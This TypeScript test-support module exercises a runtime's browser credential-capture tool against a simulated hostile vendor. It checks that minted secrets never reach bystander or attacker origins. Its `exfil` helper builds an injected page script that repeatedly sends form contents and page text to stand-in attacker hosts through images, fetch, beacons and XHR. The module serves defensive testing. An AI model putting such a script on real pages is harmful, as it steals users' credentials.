/**
 * The world of the generated-credential capture attack tests (tests/capture_attack_test.ts,
 * tests/capture_attack_linear_test.ts): a hostile vendor (tests/fixtures/hostile_vendor.ts),
 * a runtime capturing from it, one capture attempt under hostile options with what must hold
 * whatever its outcome, page scripts that send page text everywhere, and the leak search.
 *
 * @module
 */
import assert from "node:assert/strict";
import { rawKeySource, Vault } from "../../vault/mod.ts";
import { databasePath, openDatabase } from "../../runtime/store/database.ts";
import type { Runtime } from "../../runtime/cli/start.ts";
import { startTestRuntime, type TestClient } from "./harness.ts";
import {
  AgentClients,
  assertNoLeak,
  captureGrants,
  captureLogs,
  capturePolicy,
  consolePages,
  GITHUB_OUTPUTS,
  leakForms,
  LINEAR_OUTPUTS,
  mintedSecrets,
  newVaultKey,
  revealSecret,
  sqliteGrants,
  storedPlaces,
} from "./capture_world.ts";
import {
  type HostileGithubOptions,
  type HostileLinearOptions,
  type HostileVendors,
  type SeenRequest,
  serveHostileVendors,
} from "../fixtures/hostile_vendor.ts";

const KEY = newVaultKey();
/** The stable codes a failed capture names. */
export const STABLE_CODE =
  /\b(CAPTURE_[A-Z_]+|GRANT_[A-Z_]+|VAULT_UNAVAILABLE|INVALID_ARGUMENTS)\b/;

/** `n` random bytes in hex. */
export const randomHex = (n: number): string =>
  [...crypto.getRandomValues(new Uint8Array(n))].map((b) => b.toString(16).padStart(2, "0"))
    .join("");

/** The forms of `values` that `text` holds. */
export function found(text: string, values: readonly string[]): string[] {
  return leakForms(values).filter((f) => text.includes(f));
}

/** What a list of requests carried, URL-decoded too, as one text. */
export const seenText = (rs: readonly SeenRequest[]): string =>
  rs.map((r) => {
    let decoded = r.url;
    try {
      decoded = decodeURIComponent(r.url);
    } catch { /* as is */ }
    return `${r.method} ${r.url}\n${decoded}\n${r.referer}\n${r.body}`;
  }).join("\n");

/** The policy for the hostile vendors: both templates unless one is `false`, the bystander too. */
export function policyFor(
  v: HostileVendors,
  templates: { github?: boolean; linear?: boolean },
): string {
  return capturePolicy({
    github: v.github,
    linear: v.linear,
    name: "Omotai attack test",
    alsoAllowed: [v.bystander.origin],
    templates,
  });
}

/** A runtime on its own data dir, its grant store and vault reader, and MCP clients. */
async function openWorld(
  v: HostileVendors,
  policy: string,
  options: { vault?: boolean } = {},
) {
  const dataDir = await Deno.makeTempDir({ prefix: "omotai-capture-attack-" });
  const db = openDatabase(databasePath(dataDir));
  if (options.vault !== false) {
    using vault = await Vault.open(db, rawKeySource(KEY));
    await vault.add("placeholder", "generic", "not-a-minted-value-0000");
  }
  const grants = sqliteGrants(db);
  // One agent opens a session per step (some forty, kept to the end for the leak search):
  // more than a default share of the runtime's sessions, so this world's policy sets none.
  const runtime: Runtime = await startTestRuntime(dataDir, `${policy}\nmax_sessions: 0\n`, {
    ...(options.vault !== false ? { vaultKey: { key: KEY } } : {}),
    upstreamCa: [v.caPem],
  });
  const key = (await runtime.agents.add("alice")).key;
  const clients = new AgentClients("capture-attack");
  const connect = () => clients.connect(runtime, key);
  const grant = captureGrants(grants, {
    origins: { github_app: v.github.origin, linear_oauth_app: v.linear.origin },
    purpose: "capture attack test",
    prefix: "atk",
  });
  const reveal = (id: string) => revealSecret(db, KEY, id);
  /** Everything the runtime keeps or shows besides the MCP stream, as one text per place. */
  const places = async (): Promise<[string, string][]> => {
    // Every page of the console's API that lists something (it has no page of secrets).
    const pages = await consolePages(runtime, runtime.adminToken, [
      "/api/sessions",
      "/api/audit",
      "/api/audit/export",
      "/api/grants",
      "/api/approvals",
      "/api/status",
    ]);
    return [
      ["the MCP stream", clients.stream()],
      ...await storedPlaces(dataDir),
      ["the console", pages.join("\n")],
    ];
  };
  return {
    dataDir,
    db,
    grants,
    runtime,
    clients,
    connect,
    grant,
    reveal,
    places,
    async [Symbol.asyncDispose]() {
      await clients[Symbol.asyncDispose]();
      await runtime[Symbol.asyncDispose]();
      db.close();
      await Deno.remove(dataDir, { recursive: true }).catch(() => {});
    },
  };
}

/** Asserts that `c`'s session is tainted: a navigation is refused. */
export async function assertTainted(c: TestClient, url: string): Promise<void> {
  const nav = await c.call("browser_navigate", { url });
  assert.equal(nav.isError, true, nav.text);
  assert.match(nav.text, /SESSION_TAINTED/);
}

/** One capture attempt and what it left. */
export interface Attempt {
  out: { text: string; isError: boolean };
  c: TestClient;
  ids: Record<string, string>;
  targets: Record<string, string>;
  /** What the vendor minted during the attempt (values). */
  minted: string[];
  /** What the bystander saw during the attempt. */
  toBystander: SeenRequest[];
}

/**
 * One session that several attempts run in, a browser launch each saved: where what an
 * attempt tests is the vendor's answer or where a page goes, not what a fresh session sees.
 * The first attempt opens it, so its outcome's taint is proven on a clean session; the later
 * ones reuse it (a tainted session still captures and reports, the baseline step shows), and
 * each asserts its own outcome, so one cannot pass on what an earlier one left. Not for pages
 * that open tabs, or that may keep sending to the allowed bystander after their attempt: what
 * they left would count in the next attempt (a page sending only to the attacker may share,
 * since any request the attacker gets is a leak whoever sent it).
 */
export interface SharedSession {
  client?: TestClient;
}

/** A hostile vendor, a runtime capturing from it, and the checks every attempt must pass. */
async function openHostileCapture() {
  const { logs, restore } = captureLogs();
  const v = await serveHostileVendors();
  const w = await world(v, policyFor(v, {}));
  const { github, linear, bystander, attacker } = v;
  /** Every value any vendor minted or showed in this test: never to be seen anywhere. */
  const secrets: string[] = [];
  const vendorSeen = () => github.requests.length + linear.requests.length;
  const posts = () =>
    github.requests.filter((r) => r.method === "POST").length +
    linear.requests.filter((r) => r.method === "POST").length;

  /**
   * One capture under hostile options, and what must hold whatever its outcome: the code and
   * the minted values reached neither the bystander nor the attacker; a failure has a stable
   * code and wrote nothing (its grants unused); a success wrote exactly what was minted; the
   * session is tainted.
   */
  const attempt = async (
    workflow: "github_app" | "linear_oauth_app",
    hostile: { github?: HostileGithubOptions; linear?: HostileLinearOptions } = {},
    opts: { client?: TestClient; shared?: SharedSession; extraSecrets?: () => string[] } = {},
  ): Promise<Attempt> => {
    const outputs = workflow === "github_app" ? GITHUB_OUTPUTS : LINEAR_OUTPUTS;
    const { ids, targets } = await w.grant(workflow, outputs);
    Object.assign(github.options, hostile.github ?? {});
    Object.assign(linear.options, hostile.linear ?? {});
    const mark = {
      gh: github.minted.length,
      lin: linear.minted.length,
      by: bystander.requests.length,
      at: attacker.requests.length,
    };
    const c = opts.client ?? opts.shared?.client ?? await w.connect();
    if (opts.shared) opts.shared.client = c;
    let out;
    try {
      out = await c.call("browser_capture_credentials", { workflow, outputs: ids });
    } finally {
      for (const k of Object.keys(github.options)) {
        delete github.options[k as keyof HostileGithubOptions];
      }
      for (const k of Object.keys(linear.options)) {
        delete linear.options[k as keyof HostileLinearOptions];
      }
    }
    // Late requests of the page (a timer, a beacon at unload) still count.
    await new Promise((r) => setTimeout(r, 300));
    const newGh = github.minted.slice(mark.gh);
    const newLin = linear.minted.slice(mark.lin);
    const minted = [...mintedSecrets([...newGh, ...newLin]), ...(opts.extraSecrets?.() ?? [])];
    secrets.push(...minted);
    const toBystander = bystander.requests.slice(mark.by);
    const toAttacker = attacker.requests.slice(mark.at);
    // Every promise is checked, and every broken one reported together.
    const problems: string[] = [];
    const check = async (fn: () => unknown) => {
      try {
        await fn();
      } catch (err) {
        problems.push(err instanceof Error ? err.message : String(err));
      }
    };
    await check(() =>
      assert.deepEqual(
        found(seenText(toBystander), minted).map((f) => `${f.slice(0, 12)}…`),
        [],
        `a code or minted value reached the bystander origin (${out.text.slice(0, 160)}): ${
          toBystander.map((r) => `${r.method} ${r.url.slice(0, 80)}`).join(" | ")
        }`,
      )
    );
    await check(() =>
      assert.deepEqual(
        toAttacker.map((r) => `${r.method} ${r.url.slice(0, 60)}`),
        [],
        "the attacker's origin (not allowed) received a request",
      )
    );
    await check(async () => {
      if (out.isError) {
        assert.match(out.text, STABLE_CODE, out.text);
        for (const id of Object.values(targets)) {
          assert.equal(Vault.has(w.db, id), false, `${id} stays empty after ${out.text}`);
        }
        for (const id of Object.values(ids)) {
          assert.equal((await w.grants.get(id))?.state, "active");
        }
      } else {
        assert.match(out.text, /CAPTURE_DONE/);
        const app = workflow === "github_app" ? newGh.at(-1) : newLin.at(-1);
        assert.ok(app, "a success has a minted app");
        for (const o of outputs) {
          assert.equal(
            await w.reveal(targets[o]),
            (app as unknown as Record<string, string>)[o],
            `${o} is what the vendor minted`,
          );
        }
      }
    });
    await check(() => assertTainted(c, github.origin));
    if (problems.length) {
      throw new assert.AssertionError({ message: problems.join("\n---\n") });
    }
    return { out, c, ids, targets, minted, toBystander };
  };

  /** A script that sends `what()` to each target origin by every means a page has. */
  const exfil = (targets: readonly string[], what: string, tag: string) =>
    `<script>
(() => {
  const T = ${JSON.stringify(targets)};
  const send = (when) => {
    let v = "";
    try { v = String(${what}); } catch (e) { v = "err"; }
    const q = encodeURIComponent(v);
    for (const o of T) {
      try { new Image().src = o + "/${tag}-img-" + when + "?v=" + q; } catch (e) {}
      try { fetch(o + "/${tag}-get-" + when + "?v=" + q, { mode: "no-cors" }).catch(() => {}); } catch (e) {}
      try { fetch(o + "/${tag}-post-" + when, { method: "POST", mode: "no-cors", body: v }).catch(() => {}); } catch (e) {}
      try { navigator.sendBeacon(o + "/${tag}-beacon-" + when, v); } catch (e) {}
      try { const x = new XMLHttpRequest(); x.open("PUT", o + "/${tag}-xhr-" + when); x.send(v); } catch (e) {}
    }
  };
  send("head");
  addEventListener("DOMContentLoaded", () => send("load"));
  document.addEventListener("submit", () => send("submit"), true);
  addEventListener("pagehide", () => send("hide"));
  setInterval(() => send("tick"), 40);
})();
</script>`;

  const TARGETS = [bystander.origin, attacker.origin];
  const formText =
    `(document.forms[0] ? new URLSearchParams(new FormData(document.forms[0])).toString() : "") + " " + (document.body ? document.body.innerText : "")`;

  /**
   * The leak search: no code or minted value of this world anywhere, in any encoding; at
   * least `atLeast` values searched (a search for nothing finds nothing).
   */
  const leakSearch = async (atLeast: number) => {
    const values = [
      ...new Set([
        ...secrets,
        ...mintedSecrets(github.minted),
        ...mintedSecrets(linear.minted),
      ]),
    ];
    assertNoLeak({
      values,
      places: [...await w.places(), ["the log", logs.join("\n")]],
      atLeast,
    });
    assert.deepEqual(attacker.requests.map((r) => r.url.slice(0, 60)), []);
  };

  return {
    v,
    w,
    github,
    linear,
    bystander,
    attacker,
    logs,
    secrets,
    vendorSeen,
    posts,
    attempt,
    exfil,
    TARGETS,
    formText,
    leakSearch,
    async [Symbol.asyncDispose]() {
      restore();
      await w[Symbol.asyncDispose]();
      await v[Symbol.asyncDispose]();
    },
  };
}

/** A runtime on its own data dir, its grant store and vault reader, and MCP clients. */
export type CaptureWorld = Awaited<ReturnType<typeof openWorld>>;

/** Opens a {@link CaptureWorld} for the vendors `v` under `policy`. */
export function world(...args: Parameters<typeof openWorld>): Promise<CaptureWorld> {
  return openWorld(...args);
}

/** What {@link hostileCapture} opens. */
export type HostileCapture = Awaited<ReturnType<typeof openHostileCapture>>;

/** A hostile vendor, a runtime capturing from it, and the checks every attempt must pass. */
export function hostileCapture(): Promise<HostileCapture> {
  return openHostileCapture();
}
